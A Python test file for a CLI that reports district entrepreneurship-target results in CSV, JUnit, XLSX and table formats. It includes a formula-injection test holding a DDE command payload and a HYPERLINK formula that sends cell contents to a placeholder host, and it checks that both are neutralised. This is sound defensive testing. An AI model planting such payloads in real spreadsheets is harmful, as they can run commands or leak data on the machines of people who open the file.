"""check --format / --output: every format against golden files, read back with real parsers;
formula injection; output paths that must be refused, with nothing written."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import xml.etree.ElementTree as ET

import openpyxl
import pytest

from chuangye_cli.judge.results import FAILING
from chuangye_cli.render import FORMATS, TABLE_FORMATS
from chuangye_cli.render.csv import neutralise
from chuangye_cli.render.formats import DATA_TABLE_FORMATS
from conftest import FIXTURES, GOLDEN, ROOT, SAMPLE, run
from regen_golden import CASES, produce

SMALL = FIXTURES / "check"
SMALL_TARGETS = SMALL / "targets_small.yaml"
BAD = FIXTURES / "formats" / "bad.csv"


@pytest.fixture
def at_root(monkeypatch):
    """Run from the repository root, so file names in the output are as in the golden files."""
    monkeypatch.chdir(ROOT)


def sample_json(lang: str = "zh") -> dict:
    return json.loads((GOLDEN / f"check_sample_{lang}.json").read_text(encoding="utf-8"))


def failing(data: dict) -> int:
    """The results that fail the run (a target that needs rosters, none given, fails nothing)."""
    return sum(1 for r in data["results"] if r["status"] in FAILING and not r.get("needs_rosters"))


def files_in(folder) -> list[str]:
    return sorted(os.listdir(folder))


# --------------------------------------------------------------------------- golden files


@pytest.mark.parametrize("name", sorted(n for n in CASES if "by_district" not in n))
def test_golden(name):
    data, code = produce(name)
    assert code == 1  # the sample misses a target (service rate) and a district lags (商河县 incubators)
    assert data == (GOLDEN / name).read_bytes()


def test_golden_json_is_the_json_format_of_the_sample(at_root):
    result = run("check", "sample_data", "--format", "json")
    data = json.loads(result.stdout)
    assert data == sample_json()
    # no_data 1: the roster-based target, no roster given
    summary = {"met": 16, "on_track": 8, "pending": 2, "behind": 1, "below": 1, "not_met": 0, "no_data": 1}
    assert data["summary"] == summary
    assert "by_district" not in data


# --------------------------------------------------------------------------- csv


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_csv_reads_back_one_row_per_result(at_root, lang):
    result = run("check", "sample_data", "--format", "csv", "--lang", lang)
    assert result.exit_code == 1
    raw = result.stdout_bytes
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel opens the Chinese right
    mark, _, body = raw.decode("utf-8-sig").partition("\r\n")
    # the first line says the file is chuangye's output, not a report (one cell in Excel: no comma)
    assert mark == {"zh": "# chuangye: 检查结果，不是季报", "en": "# chuangye: results; not a quarterly report"}[lang]
    rows = list(csv.reader(io.StringIO(body, newline="")))
    data = sample_json()
    assert len(rows) == 1 + len(data["results"])
    header = rows[0]
    if lang == "zh":
        assert header[:4] == ["类型", "目标编号", "目标", "行政区划代码"]
    else:
        assert header[:4] == ["Type", "Target id", "Target", "District code"]
    records = [dict(zip(header, r)) for r in rows[1:]]
    key = {
        "zh": ("目标编号", "行政区划代码", "实际", "状态代码", "状态"),
        "en": ("Target id", "District code", "Actual", "Status code", "Status"),
    }[lang]
    for rec, res in zip(records, data["results"]):
        assert rec[key[0]] == res["target"]
        assert rec[key[1]] == (res["district_code"] or "")
        assert rec[key[3]] == res["status"]
        if isinstance(res["actual"], (int, float)):
            assert float(rec[key[2]]) == res["actual"]  # exact, not rounded for display
    city = records[0]
    assert (city[key[0]], city[key[2]], city[key[4]]) == (
        "participants",
        "17370",
        "符合序时进度" if lang == "zh" else "on track",
    )
    # every row says when it was true; the sample is complete, so no row is flagged
    assert header[-3:] == (
        ["数据不全", "缺报（县(市)区 季度）", "统计截至"]
        if lang == "zh"
        else ["Incomplete", "Missing reports (district quarter)", "As of"]
    )
    assert {(r[header[-3]], r[header[-2]], r[header[-1]]) for r in records} == {("", "", "2010Q2")}
    level = next(r for r in records if r[key[0]] == "provincial_standard_others" and r[key[1]] == "370124")
    assert level[key[2]] == ("未达到" if lang == "zh" else "not attained")


def test_csv_with_invalid_input_has_only_the_header_and_errors_on_stderr():
    result = run("check", BAD, "--targets", SMALL_TARGETS, "--format", "csv", "--lang", "en")
    assert result.exit_code == 3
    rows = list(csv.reader(io.StringIO(result.stdout_bytes.decode("utf-8-sig"), newline="")))
    assert len(rows) == 2 and rows[0] == ["# chuangye: results; not a quarterly report"] and rows[1][0] == "Type"
    assert "3 error(s)" in result.stderr
    assert "no verdict" in result.stderr


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://x","y")', "'=HYPERLINK(\"http://x\",\"y\")"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("-", "'-"),
        ("-inf", "'-inf"),
        ("-5", "-5"),
        ("+86", "+86"),
        ("-1,234.5", "-1,234.5"),
        ("-1.5e3", "-1.5e3"),
        ("-12%", "-12%"),
        ("历下区", "历下区"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (0.93, 0.93),
        (None, None),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


# --------------------------------------------------------------------------- junit


def parse_junit(data: bytes) -> ET.Element:
    root = ET.fromstring(data)
    assert root.tag == "testsuites"
    return root


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_junit_failures_are_the_failing_results(at_root, lang):
    result = run("check", "sample_data", "--format", "junit", "--lang", lang)
    assert result.exit_code == 1
    root = parse_junit(result.stdout_bytes)
    data = sample_json()
    failures = root.findall(".//failure")
    assert len(failures) == failing(data) == 2
    assert root.get("failures") == "2"
    files = list(dict.fromkeys(f["file"] for f in data["files"]))  # 商河县's .xls lists 3 sheets: one case
    assert int(root.get("tests")) == len(data["results"]) + len(files) == 29 + 15
    skipped = root.findall(".//skipped")  # the roster-based target, no roster given
    assert [s.get("message") for s in skipped] == [{"zh": "需花名册：未提供", "en": "needs rosters: none given"}[lang]]
    assert root.find("testsuite[@name='targets']").get("skipped") == "1"
    targets = root.find("testsuite[@name='targets']")
    assert len(targets.findall("testcase")) == len(data["results"])
    failed = [(c.get("classname"), c.find("failure").get("type")) for c in targets if c.find("failure") is not None]
    assert failed == [("targets.service_rate", "below"), ("targets.district_incubators", "behind")]
    text = targets.find("testcase[@classname='targets.service_rate']/failure").text
    # 99.87% is never shown as 100%
    assert text == (
        "尚未达标：实际 99.9%，目标 >= 100%" if lang == "zh" else "not yet met: actual 99.9%, target >= 100%"
    )
    validation = root.find("testsuite[@name='validation']")
    ok = "文件校验通过" if lang == "zh" else "file is valid"
    assert [c.get("name") for c in validation] == [f"{f} · {ok}" for f in files]
    assert {c.get("classname") for c in validation} == {"validation"}


def test_junit_has_a_failing_testcase_per_validation_error():
    result = run("check", BAD, "--targets", SMALL_TARGETS, "--format", "junit", "--lang", "en")
    assert result.exit_code == 3
    root = parse_junit(result.stdout_bytes)  # parses: the control character in a cell was replaced
    assert root.find("testsuite[@name='targets']") is None  # no verdict
    cases = root.findall(".//testcase")
    failures = root.findall(".//failure")
    assert len(cases) == len(failures) == 3 == int(root.get("failures"))
    assert [c.get("name") for c in cases] == [
        f"{BAD} · row 3, column 创业培训人数",
        f"{BAD} · row 4, column 创业指导人数",
        f"{BAD} · row 5, column 新增就业人数",
    ]
    assert [f.get("type") for f in failures] == ["negative", "not-integer", "not-integer"]
    assert all(c.get("classname") == "validation" for c in cases)
    assert failures[0].get("message") == "must not be negative"
    assert failures[0].text == f"{BAD}, row 3, column 创业培训人数 [-5]: must not be negative"
    assert "12\ufffd34" in failures[2].text
    out = root.find("testsuite[@name='validation']/system-out").text.splitlines()
    # the rows with errors are reports all the same: as of 2009Q4, and 市中区 sent none of Q1-Q4
    assert len(out) == 5 and out[0].endswith("unknown column, ignored") and "@cmd" in out[0]
    assert out[1:] == [f"whole file: Shizhong (370103) has no report for 2009Q{q}" for q in range(1, 5)]


# --------------------------------------------------------------------------- xlsx


def read_xlsx(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def sheet_rows(ws) -> list[list]:
    return [[c.value for c in row] for row in ws.iter_rows()]


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_xlsx_reads_back(at_root, lang):
    result = run("check", "sample_data", "--format", "xlsx", "--lang", lang)
    assert result.exit_code == 1
    wb = read_xlsx(result.stdout_bytes)
    names = {
        "zh": ["达标结果", "分县(市)区", "错误和警告", "说明"],
        "en": ["Results", "By district", "Errors and warnings", "About"],
    }[lang]
    assert wb.sheetnames == names
    data = sample_json()
    results = sheet_rows(wb[names[0]])
    header = results[0]
    assert header[:3] == (
        ["目标编号", "目标", "行政区划代码"] if lang == "zh" else ["Target id", "Target", "District code"]
    )
    assert len(results) == 1 + len(data["results"])
    col = {h: i for i, h in enumerate(header)}
    actual, status = col["实际" if lang == "zh" else "Actual"], col["状态代码" if lang == "zh" else "Status code"]
    for row, res in zip(results[1:], data["results"]):
        assert row[0] == res["target"]
        assert row[status] == res["status"]
        if isinstance(res["actual"], (int, float)):
            assert row[actual] == pytest.approx(res["actual"], rel=1e-15)  # numbers stay numbers
    ws = wb[names[0]]
    # a rate: the fraction with a percent format that never rounds 99.87% up to 100%
    service = next(r for r in ws.iter_rows(min_row=2) if r[0].value == "service_rate")
    assert service[actual].value == pytest.approx(7465 / 7475)
    assert service[actual].number_format == "0.0%"
    assert next(r for r in ws.iter_rows(min_row=2) if r[0].value == "participants")[actual].number_format == "#,##0"
    # columns sized to fit: no column narrower than its header's display width
    from wcwidth import wcswidth

    for i, h in enumerate(header):
        letter = openpyxl.utils.get_column_letter(i + 1)
        assert ws.column_dimensions[letter].width >= wcswidth(h)
    name_col = openpyxl.utils.get_column_letter(2)
    assert ws.column_dimensions[name_col].width == min(60, 2 + max(wcswidth(str(r[1])) for r in results))
    # the per-district sheet is the matrix: a row per district, a column per city target
    by_district = sheet_rows(wb[names[1]])
    assert len(by_district) == 1 + 10
    assert by_district[1][:2] == ["370102", "历下区" if lang == "zh" else "Lixia"]
    # the last sheet says what the workbook is and when it was true: plan, period, as-of quarter
    assert sheet_rows(wb[names[3]]) == (
        [["方案", data["plan"]], ["方案期间", "2009Q1–2010Q4"], ["统计截至", "2010Q2"], ["注", ROSTERS_ZH],
         ["生成工具", "chuangye"]]
        if lang == "zh"
        else [["Plan", data["plan"]], ["Plan period", "2009Q1–2010Q4"], ["As of", "2010Q2"], ["Note", ROSTERS_EN],
              ["Written by", "chuangye"]]
    )
    # the errors sheet: header only (the sample is clean)
    assert sheet_rows(wb[names[2]]) == [
        ["类别", "文件", "工作表", "行", "列", "值", "问题", "问题代码"]
        if lang == "zh"
        else ["Severity", "File", "Sheet", "Row", "Column", "Value", "Problem", "Code"]
    ]


def test_xlsx_errors_sheet_lists_errors_and_warnings_neutralised(tmp_path):
    out = tmp_path / "r.xlsx"
    result = run("check", BAD, "--targets", SMALL_TARGETS, "-o", out, "--lang", "en")
    assert result.exit_code == 3
    wb = openpyxl.load_workbook(out)
    rows = sheet_rows(wb["Errors and warnings"])
    assert rows[0] == ["Severity", "File", "Sheet", "Row", "Column", "Value", "Problem", "Code"]
    assert [r[0] for r in rows[1:]] == ["error"] * 3 + ["warning"] * 5  # 市中区 sent none of Q1-Q4
    assert [r[2] for r in rows[1:]] == [None] * 8  # a CSV input: no sheet
    assert [r[3] for r in rows[1:4]] == [3, 4, 5]
    assert rows[1][5] == "-5"  # a number written as text is left alone
    assert rows[2][5] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"  # a formula is not
    assert rows[3][5] == "12\ufffd34"  # a control character Excel refuses is replaced
    assert rows[4][4] == "'@cmd"
    # nothing in the workbook is a formula
    for ws in wb:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f"
    assert sheet_rows(wb["Results"])[1:] == []


def test_xlsx_refused_on_a_terminal(monkeypatch, tmp_path):
    monkeypatch.setattr("chuangye_cli.render.formats.stdout_is_terminal", lambda: True)
    result = run("check", SMALL, "--targets", SMALL_TARGETS, "--format", "xlsx", "--lang", "en")
    assert result.exit_code == 2
    assert result.stdout_bytes == b""
    assert result.stderr == "Error: xlsx is a binary format and is not written to a terminal; give -o FILE.xlsx\n"
    # with -o it is fine
    out = tmp_path / "r.xlsx"
    assert run("check", SMALL, "--targets", SMALL_TARGETS, "--format", "xlsx", "-o", out).exit_code == 1
    assert openpyxl.load_workbook(out).sheetnames == ["达标结果", "分县(市)区", "错误和警告", "说明"]


# --------------------------------------------------------------------------- table formats


@pytest.mark.parametrize("fmt", TABLE_FORMATS)
def test_every_table_format(fmt):
    result = run("check", SMALL, "--targets", SMALL_TARGETS, "--format", fmt, "--lang", "en")
    assert result.exit_code == 1
    assert "Training pass rate" in result.stdout and "99.7" in result.stdout  # latex writes 99.7\%
    titles = ["测试方案", "As of 2009Q2 (plan period 2009Q1–2009Q4)"]
    summary = "Summary: met 1, on track 3, pending 1, not yet met 1"
    if fmt in DATA_TABLE_FORMATS:  # the table alone on stdout; titles and summary on stderr
        assert result.stderr == "\n".join([*titles, summary]) + "\n"
        assert summary not in result.stdout
        assert (titles[1] in result.stdout) == (fmt == "html")  # html: in the table's own <caption>
    else:
        assert result.stderr == ""
        assert result.stdout.startswith("\n".join(titles) + "\n")
        assert result.stdout.endswith(summary + "\n")


def test_tsv_is_plain_tab_separated_values():
    result = run("check", SMALL, "--targets", SMALL_TARGETS, "--format", "tsv", "--lang", "en")
    lines = result.stdout.splitlines()
    assert lines[0] == "Target\tScope\tTarget value\tActual\tProgress/pro-rata\tStatus"  # no title line first
    assert lines[1] == "Guidance and training participants\tcity\t>= 1,000\t750\t75.0% / 50.0%\ton track"  # no padding
    assert len(lines) == 1 + 6 and all(line.count("\t") == 5 for line in lines)
    rows = list(csv.reader(io.StringIO(result.stdout), delimiter="\t"))
    assert [r[5] for r in rows[1:]] == ["on track", "met", "not yet met", "on track", "on track", "pending"]


def test_html_table_carries_its_titles_as_the_caption():
    result = run("check", SMALL, "--targets", SMALL_TARGETS, "--format", "html", "--lang", "en")
    assert result.stdout.startswith(
        "<table>\n<caption>测试方案<br>As of 2009Q2 (plan period 2009Q1–2009Q4)</caption>\n<thead>"
    )
    assert result.stdout.endswith("</table>\n")


@pytest.mark.parametrize("fmt", ["latex", "latex_booktabs"])
def test_latex_output_is_the_table_alone(fmt):
    result = run("check", SMALL, "--targets", SMALL_TARGETS, "--format", fmt, "--lang", "en")
    assert result.stdout.startswith("\\begin{tabular}")
    assert result.stdout.endswith("\\end{tabular}\n")


def test_formats_list():
    assert {"json", "csv", "junit", "xlsx", "simple", "github", "grid", "pipe", "rst", "html", "latex", "plain"} <= set(
        FORMATS
    )


# --------------------------------------------------------------------------- --output


@pytest.mark.parametrize(
    "suffix, fmt",
    [(".json", "json"), (".csv", "csv"), (".xml", "junit"), (".md", "github"), (".txt", "simple"), (".JSON", "json")],
)
def test_output_infers_format_from_extension(tmp_path, suffix, fmt):
    out = tmp_path / f"result{suffix}"
    result = run("check", SMALL, "--targets", SMALL_TARGETS, "-o", out)
    assert result.exit_code == 1
    assert result.stdout_bytes == b""
    assert result.stderr == f"结果已写入 {out}\n"
    direct = run("check", SMALL, "--targets", SMALL_TARGETS, "--format", fmt)
    assert out.read_bytes() == direct.stdout_bytes
    assert files_in(tmp_path) == [out.name]  # no temporary file left behind


def test_output_xlsx_from_extension(tmp_path):
    out = tmp_path / "result.xlsx"
    assert run("check", SMALL, "--targets", SMALL_TARGETS, "--output", out).exit_code == 1
    assert openpyxl.load_workbook(out).sheetnames == ["达标结果", "分县(市)区", "错误和警告", "说明"]


def test_explicit_format_wins_over_extension(tmp_path):
    out = tmp_path / "result.txt"
    run("check", SMALL, "--targets", SMALL_TARGETS, "--format", "json", "-o", out)
    assert json.loads(out.read_text(encoding="utf-8"))["as_of"] == "2009Q2"
    out = tmp_path / "table.html"
    run("check", SMALL, "--targets", SMALL_TARGETS, "--format", "html", "-o", out)
    assert "<table>" in out.read_text(encoding="utf-8")


def test_output_replaces_an_existing_file_whole(tmp_path):
    out = tmp_path / "result.json"
    out.write_text("x" * 100_000, encoding="utf-8")
    run("check", SMALL, "--targets", SMALL_TARGETS, "-o", out)
    assert json.loads(out.read_text(encoding="utf-8"))["as_of"] == "2009Q2"


def test_output_with_invalid_input_still_writes_the_report(tmp_path):
    out = tmp_path / "junit.xml"
    result = run("check", BAD, "--targets", SMALL_TARGETS, "-o", out, "--lang", "en")
    assert result.exit_code == 3
    assert len(parse_junit(out.read_bytes()).findall(".//failure")) == 3
    assert "3 error(s)" in result.stderr and result.stderr.endswith(f"results written to {out}\n")


def one_line_usage_error(result, expected: str) -> None:
    assert result.exit_code == 2
    assert result.stdout_bytes == b""
    assert result.stderr == expected + "\n"


@pytest.mark.parametrize("name", ["report.html", "report.docx", "report"])
def test_unknown_extension_refused(tmp_path, name):
    out = tmp_path / name
    result = run("check", SMALL, "--targets", SMALL_TARGETS, "-o", out, "--lang", "en")
    suffix = out.suffix or "''"
    one_line_usage_error(
        result,
        f"Error: cannot tell the output format from the extension {suffix} of {out} "
        "(known: .json .csv .xml .xlsx .md .txt); give --format",
    )
    assert files_in(tmp_path) == []


def test_unknown_format_refused(tmp_path):
    out = tmp_path / "r.json"
    result = run("check", SMALL, "--targets", SMALL_TARGETS, "--format", "docx", "-o", out, "--lang", "en")
    assert result.exit_code == 2
    assert "'docx' is not one of" in result.stderr
    assert files_in(tmp_path) == []


def test_unwritable_outputs_refused(tmp_path):
    missing = tmp_path / "no" / "such" / "r.json"
    one_line_usage_error(
        run("check", SMALL, "--targets", SMALL_TARGETS, "-o", missing, "--lang", "en"),
        f"Error: cannot write {missing}: the folder {missing.parent} does not exist",
    )
    folder = tmp_path / "out.json"
    folder.mkdir()
    one_line_usage_error(
        run("check", SMALL, "--targets", SMALL_TARGETS, "-o", folder, "--lang", "en"),
        f"Error: the output path {folder} is a folder; give a file name",
    )
    a_file = tmp_path / "plain"
    a_file.write_text("keep", encoding="utf-8")
    under_file = a_file / "r.json"
    one_line_usage_error(
        run("check", SMALL, "--targets", SMALL_TARGETS, "-o", under_file, "--lang", "en"),
        f"Error: cannot write {under_file}: the folder {a_file} does not exist",
    )
    assert files_in(tmp_path) == ["out.json", "plain"] and a_file.read_text(encoding="utf-8") == "keep"
    assert files_in(folder) == []


def test_input_files_are_never_overwritten(tmp_path):
    inputs = tmp_path / "in"
    shutil.copytree(SMALL, inputs)
    before = {p.name: p.read_bytes() for p in inputs.iterdir()}
    # a submission given by name, a submission found in a folder, the targets file
    for args, out in [
        ([inputs / "lixia.csv", inputs / "shizhong.csv"], inputs / "lixia.csv"),
        ([inputs], inputs / "shizhong.csv"),
        ([inputs], inputs / "targets_small.yaml"),
    ]:
        result = run(
            "check", *args, "--targets", inputs / "targets_small.yaml", "--format", "csv", "-o", out, "--lang", "en"
        )
        one_line_usage_error(result, f"Error: {out} is an input file; it is never overwritten")
    # also through another name for the same file
    link = tmp_path / "link.csv"
    link.symlink_to(inputs / "lixia.csv")
    result = run("check", inputs, "--targets", inputs / "targets_small.yaml", "-o", link, "--lang", "en")
    one_line_usage_error(result, f"Error: {link} is an input file; it is never overwritten")
    assert {p.name: p.read_bytes() for p in inputs.iterdir()} == before


def test_failed_write_leaves_nothing(tmp_path, monkeypatch):
    def fail(src, dst):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("chuangye_cli.core.writer.os.replace", fail)
    out = tmp_path / "r.json"
    result = run("check", SMALL, "--targets", SMALL_TARGETS, "-o", out, "--lang", "en")
    assert (result.exit_code, result.stdout_bytes) == (5, b"")  # could not write the output: not a usage error
    assert result.stderr == f"Error: cannot write {out}: No space left on device\n"
    assert files_in(tmp_path) == []


def test_sample_folder_untouched_by_output(tmp_path):
    before = {p: p.read_bytes() for p in SAMPLE.rglob("*") if p.is_file()}
    for suffix in (".json", ".csv", ".xml", ".xlsx", ".md", ".txt"):
        assert run("check", SAMPLE, "-o", tmp_path / f"r{suffix}").exit_code == 1
    assert {p: p.read_bytes() for p in SAMPLE.rglob("*") if p.is_file()} == before
    assert len(files_in(tmp_path)) == 6


# --------------------------------------------------------------------------- incomplete quarters

#: --as-of 2010Q4 on the sample (data up to 2010Q2): every figure lacks 2010Q3-Q4 of some district
LATE = ["check", "sample_data", "--as-of", "2010Q4"]
NOTE_EN = (
    "Note *: figures built without the reports of Lixia (370102) 2010Q3–2010Q4; Shizhong (370103) 2010Q3–2010Q4; "
    "Huaiyin (370104) 2010Q3–2010Q4; Tianqiao (370105) 2010Q3–2010Q4; Licheng (370112) 2010Q3–2010Q4; "
    "Changqing (370113) 2010Q3–2010Q4; Pingyin (370124) 2010Q3–2010Q4; Jiyang (370125) 2010Q3–2010Q4; "
    "Shanghe (370126) 2010Q3–2010Q4; Zhangqiu (370181) 2010Q3–2010Q4 (20 quarterly reports); a status marked * is "
    "computed from the reports received and may change when these arrive."
)
NOT_REPORTED_EN = (
    "Note: not reported = the district has no report for 2010Q4; its own results count as no data, not as a verdict."
)
ROSTERS_ZH = (
    "注：需花名册：未提供 = 按学员花名册去重人数计算，未提供花名册（--rosters）：无数据，不作判断，不影响退出码。"
)
ROSTERS_EN = (
    "Note: needs rosters: none given = counts distinct people in trainee rosters; none given (--rosters): no data, "
    "no verdict, exit code unaffected."
)
ALL_MISSING = "; ".join(
    f"{c} {q}"
    for c in ("370102", "370103", "370104", "370105", "370112", "370113", "370124", "370125", "370126", "370181")
    for q in ("2010Q3", "2010Q4")
)  # fmt: skip


def test_csv_marks_incomplete_results_and_says_when_it_was_true(at_root):
    result = run(*LATE, "--format", "csv", "--lang", "en")
    mark, _, body = result.stdout_bytes.decode("utf-8-sig").partition("\r\n")
    assert mark.startswith("# chuangye")
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    city = rows[0]
    assert (city["Target id"], city["Status"], city["Status code"]) == ("participants", "not met*", "not_met")
    assert (city["Incomplete"], city["Missing reports (district quarter)"], city["As of"]) == (
        "true",
        ALL_MISSING,
        "2010Q4",
    )
    lixia = next(r for r in rows if r["Target id"] == "district_incubators")
    assert (lixia["Status"], lixia["Status code"], lixia["Actual"]) == ("not reported", "no_data", "")
    assert lixia["Missing reports (district quarter)"] == "370102 2010Q3; 370102 2010Q4"
    assert {r["As of"] for r in rows} == {"2010Q4"}
    assert result.stderr.endswith(NOTE_EN + "\n" + NOT_REPORTED_EN + "\n" + ROSTERS_EN + "\n")  # the footnotes


def test_junit_marks_incomplete_results(at_root):
    result = run(*LATE, "--format", "junit", "--lang", "en")
    targets = parse_junit(result.stdout_bytes).find("testsuite[@name='targets']")
    cases = targets.findall("testcase")
    props = {p.get("name"): p.get("value") for p in cases[0].findall("properties/property")}
    assert props == {"incomplete": "true", "missing": ALL_MISSING}
    assert cases[0].find("failure").get("message") == "not met*: actual 17,370, target >= 20,000"
    lixia = next(c for c in cases if c.get("name") == "County/district-level incubators · Lixia (370102)")
    assert lixia.find("failure").get("message") == "not reported: actual —, target >= 5"
    assert targets.find("system-out").text == NOTE_EN + "\n" + NOT_REPORTED_EN + "\n" + ROSTERS_EN


def test_xlsx_marks_incomplete_results_and_explains_them(tmp_path, at_root):
    out = tmp_path / "late.xlsx"
    run(*LATE, "-o", out, "--lang", "en")
    wb = openpyxl.load_workbook(out)
    results = sheet_rows(wb["Results"])
    col = {h: i for i, h in enumerate(results[0])}
    assert [
        results[1][col[k]] for k in ("Status", "Status code", "Incomplete", "Missing reports (district quarter)")
    ] == ["not met*", "not_met", True, ALL_MISSING]
    assert sheet_rows(wb["About"]) == [
        ["Plan", "济南市开展创建创业型城市活动实施方案（济政办字〔2009〕67号）"],
        ["Plan period", "2009Q1–2010Q4"],
        ["As of", "2010Q4"],
        ["Note", NOTE_EN],
        ["Note", NOT_REPORTED_EN],
        ["Note", ROSTERS_EN],
        ["Written by", "chuangye"],
    ]
    assert sheet_rows(wb["By district"])[1][2:4] == ["not reported", "not reported"]


def test_tsv_keeps_the_mark_and_sends_the_note_to_stderr(at_root):
    result = run(*LATE, "--format", "tsv", "--lang", "en")
    assert result.stdout.splitlines()[1].endswith("\tnot met*")
    assert "Note" not in result.stdout
    assert result.stderr.endswith(
        "Summary: met 3, not met 5, not reported 20, needs rosters: none given 1\n"
        + NOTE_EN + "\n" + NOT_REPORTED_EN + "\n" + ROSTERS_EN + "\n"
    )


@pytest.mark.parametrize(
    "args, header",
    [
        (
            ["kpis", "sample_data"],
            "范围\t创业带动就业倍增\t创业活动对就业的贡献率\t创业环境满意度\t全员创业活动指数\t创业活动对企业成长的贡献率",
        ),
        (["targets"], "编号\t名称\t口径\t目标值\t范围\t期限"),
        (["validate", "sample_data"], "文件\t工作表\t编码\t数据行数\t未读取的原因"),  # sheets listed, 填表说明 skipped
        (["roster", "tests/fixtures/roster/good.csv"], None),
    ],
)
def test_every_command_writes_tsv_unpadded_with_the_titles_on_stderr(at_root, args, header):
    result = run(*args, "--format", "tsv")
    lines = result.stdout.splitlines()
    if header is not None:
        assert lines[0] == header  # the table first: no title line
    width = lines[0].count("\t")
    assert width > 0 and all(line.count("\t") == width for line in lines)
    assert not [cell for line in lines for cell in line.split("\t") if cell != cell.strip()]  # no padding
    assert result.stderr  # the titles (or validate's verdict) went there
